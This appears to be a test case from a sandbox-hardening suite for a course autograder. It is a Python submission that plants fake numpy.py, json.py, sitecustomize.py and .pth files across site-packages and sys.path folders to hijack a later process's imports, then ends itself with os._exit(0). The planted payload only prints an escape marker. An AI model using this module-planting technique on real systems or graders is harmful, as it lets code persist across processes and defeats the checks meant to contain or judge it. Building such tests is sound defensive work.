# attempt: puts numpy.py, json.py and sitecustomize.py where the next process may find them, and ends this one
# class: planting
# verdict: crashed
# not held: process (a process of its own is not locked in)

import os
import sys

code = "import os\nos.write(2, b'@ESCAPED@ ran what was planted')\n"
version = f"python{sys.version_info.major}.{sys.version_info.minor}"
site = f"@HOME@/.local/lib/{version}/site-packages"
own = os.path.expanduser(f"~/.local/lib/{version}/site-packages")
for folder in (".", "@COURSE@", "@COURSE@/suites/@EXERCISE@", site, own, *sys.path):
    if not folder or "/v/" in folder or "/lib/python" in folder and ".local" not in folder:
        continue  # what is installed is left alone
    for name in ("numpy.py", "json.py", "sitecustomize.py", "usercustomize.py", "dlgrade.py", "planted.pth"):
        try:
            os.makedirs(folder, exist_ok=True)
            with open(f"{folder}/{name}", "w") as file:
                file.write(code)
        except OSError:
            pass


def scale(x):
    os._exit(0)


def grow(x, by=1):
    import importlib

    for name in ("json", "numpy", "sitecustomize", "usercustomize"):
        try:
            importlib.reload(importlib.import_module(name))
        except ImportError:
            pass
    return x
